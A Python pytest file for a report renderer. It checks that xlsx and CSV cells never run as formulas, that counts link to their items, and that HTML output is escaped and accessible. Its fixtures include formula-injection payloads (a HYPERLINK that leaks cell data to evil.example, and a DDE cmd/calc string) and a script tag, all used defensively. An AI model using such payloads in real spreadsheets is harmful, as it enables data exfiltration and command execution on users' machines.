"""Rendering a report: spreadsheet cells never run as formulas, every count leads to its
items (a sheet per figure in xlsx, a drill-down list in HTML, rows in CSV), and HTML tables
carry captions and header scopes."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from html.parser import HTMLParser

import pytest
from openpyxl import load_workbook

from engine.reports import Figure, Report, Table
from reports import FORMATS, neutralise, render, render_fragment, render_html

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CMD = "@SUM(1+1)*cmd|' /C calc'!A0"


def _report() -> Report:
    red = Figure.of("sept: red", ["r/A1", "r/A2"])
    none = Figure.of("sept: none", [])
    return Report(
        name="rag",
        title="RAG <and> state",
        data={"format": 1, "report": "rag", "as_of": "2011-03-31"},
        tables=(
            Table(
                name="rag-agency",
                caption="RAG by agency",
                columns=("Agency", "Red", "No RAG"),
                rows=(("sept", red, none),),
            ),
            Table(
                name="detail",
                caption="Each item",
                columns=("Item", "Why", "Due", "Days"),
                rows=(
                    ("r/A1", HOSTILE, dt.date(2011, 3, 1), 30),
                    ("-r/A2", CMD, None, -3),
                    ("r/A3", "<script>alert(1)</script>", None, 0),
                ),
            ),
        ),
    )


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+2", "'=1+2"),
        ("+44 20", "'+44 20"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
    ],
    ids=["equals", "plus", "minus", "at", "tab", "cr", "plain", "inner", "empty"],
)
def test_neutralise_defuses_what_a_spreadsheet_would_run(text: str, shown: str) -> None:
    assert neutralise(text) == shown


def test_xlsx_cells_are_text_never_formulas() -> None:
    book = load_workbook(io.BytesIO(render(_report(), "xlsx")))
    sheet = book["detail"]
    why = [sheet.cell(row=r, column=2) for r in (3, 4)]
    assert [c.data_type for c in why] == ["s", "s"]
    assert [c.value for c in why] == ["'" + HOSTILE, "'" + CMD]
    assert sheet.cell(row=4, column=1).value == "'-r/A2"
    assert sheet.cell(row=4, column=4).value == -3  # numbers stay numbers
    assert sheet.cell(row=3, column=3).value == dt.datetime(2011, 3, 1)


def test_xlsx_has_a_sheet_per_figure_linked_from_its_count() -> None:
    book = load_workbook(io.BytesIO(render(_report(), "xlsx")))
    assert book.sheetnames == ["rag-agency", "detail", "F1"]  # the empty figure has none
    count = book["rag-agency"].cell(row=3, column=2)
    assert count.value == 2
    assert count.hyperlink is not None
    assert count.hyperlink.location == "'F1'!A1"
    f1 = book["F1"]
    assert [f1.cell(row=r, column=1).value for r in (1, 3, 4)] == ["sept: red", "r/A1", "r/A2"]


def test_csv_cells_are_neutralised_and_figures_listed() -> None:
    text = render(_report(), "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for row in rows for c in row]
    assert "'" + HOSTILE in cells
    assert "'" + CMD in cells
    assert "'-r/A2" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and c != "-3")]
    assert ["sept: red", "2", "r/A1"] in rows
    assert ["sept: red", "2", "r/A2"] in rows


class _Tables(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.captions = 0
        self.scopes: list[str | None] = []
        self.links: list[str] = []
        self.ids: set[str] = set()
        self.scripts = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        self.captions += tag == "caption"
        self.scripts += tag == "script"
        if tag == "th":
            self.scopes.append(a.get("scope"))
        if tag == "a" and a.get("href"):
            self.links.append(str(a["href"]))
        if a.get("id"):
            self.ids.add(str(a["id"]))


def test_html_tables_have_captions_scopes_and_drill_down_links() -> None:
    page = render(_report(), "html").decode()
    found = _Tables()
    found.feed(page)
    assert found.captions == 2
    assert set(found.scopes) == {"col", "row"}
    assert found.links == ["#f1"]
    assert "f1" in found.ids
    assert found.scripts == 0
    assert "&lt;script&gt;" in page
    assert "<title>RAG &lt;and&gt; state</title>" in page
    assert "<li>r/A1</li>" in page
    assert 'lang="en"' in page


def test_json_is_the_reports_data() -> None:
    assert json.loads(render(_report(), "json")) == _report().data


def test_formats_match_the_command_line_choices() -> None:
    from app.commands.report import Format

    assert tuple(f.value for f in Format) == FORMATS


def _twice() -> Report:
    """Two cells that count the same items under the same label (the number due, on two
    bases), and one that counts the same items under another label."""
    due = ["r/A1", "r/A2", "r/A3"]
    return Report(
        name="timescale",
        title="Twice",
        data={"format": 1, "report": "timescale"},
        tables=(
            Table(
                name="t",
                caption="Due",
                columns=("Basis", "Due (original)", "Due (agreed)"),
                rows=(
                    ("implemented", Figure.of("due", due), Figure.of("due by agreed", due)),
                    ("assured", Figure.of("due", due), Figure.of("due by agreed", due)),
                ),
            ),
        ),
    )


def test_the_same_figure_in_two_cells_has_one_list_one_sheet_and_one_anchor() -> None:
    report = _twice()
    assert [f.label for f in report.figures()] == ["due", "due by agreed"]
    found = _Tables()
    found.feed(render(report, "html").decode())
    assert found.links == ["#f1", "#f2", "#f1", "#f2"]
    book = load_workbook(io.BytesIO(render(report, "xlsx")))
    assert book.sheetnames == ["t", "F1", "F2"]
    links = [book["t"].cell(row=r, column=c).hyperlink for r in (3, 4) for c in (2, 3)]
    assert [h.location if h else None for h in links] == ["'F1'!A1", "'F2'!A1"] * 2


def _long(n: int) -> Report:
    keys = [f"r/K{i:03d}" for i in range(1, n + 1)]
    return Report(
        name="overdue",
        title="Long",
        data={"format": 1, "report": "overdue", "as_of": "2011-03-31"},
        tables=(
            Table(
                name="summary",
                caption="All",
                columns=("Group", "Items"),
                rows=(("all", Figure.of("all overdue", keys)),),
            ),
            Table(
                name="overdue-each-item",
                caption="Each",
                columns=("Item", "Days"),
                rows=tuple((k, i) for i, k in enumerate(keys)),
            ),
        ),
    )


def test_html_with_a_limit_prints_the_first_rows_and_says_where_the_rest_are() -> None:
    page = render_html(_long(7), limit=5).decode()
    assert "r/K005" in page
    assert "r/K006" not in page
    assert "2 more rows are not printed here (rows 1 to\n5 of 7 are)" in page
    assert "sheet\n&ldquo;overdue-each-item&rdquo;" in page
    assert "2 more items are not\nprinted here. Every item is on the sheet &ldquo;F1&rdquo;" in page
    assert "This PDF is a summary" in page
    whole = render(_long(7), "html").decode()  # the download holds every row and item
    assert whole.count("r/K007") == 2
    assert "not printed here" not in whole
    assert "This PDF is a summary" not in whole
    assert "This PDF is a summary" not in render_html(_long(5), limit=5).decode()


def test_a_date_is_kept_on_one_line_in_a_document() -> None:
    page = render(_report(), "html").decode()
    assert '<span class="date">2011-03-01</span>' in page
    assert '<span class="date">' not in render_fragment(_report(), link=str)


def test_a_hash_may_break_anywhere_in_a_document_and_an_address_only_at_its_hyphens() -> None:
    digest = "e978dbc31d8398d409a3dc761a332b12f140c0d3f4481d6c7a6accfb64674846"
    report = Report(
        name="minutes",
        title="M",
        data={"format": 1, "report": "minutes"},
        tables=(
            Table(
                name="t",
                caption="C",
                columns=("Item", "By", "Evidence"),
                rows=(("r/A1", "panel.member@southend-lscb.example.org", f"#3 sha256 {digest}"),),
            ),
        ),
    )
    page = render(report, "html").decode()
    assert f'<span class="long">#3 sha256 {digest}</span>' in page
    assert "<td>panel.member@southend-lscb.example.org</td>" in page
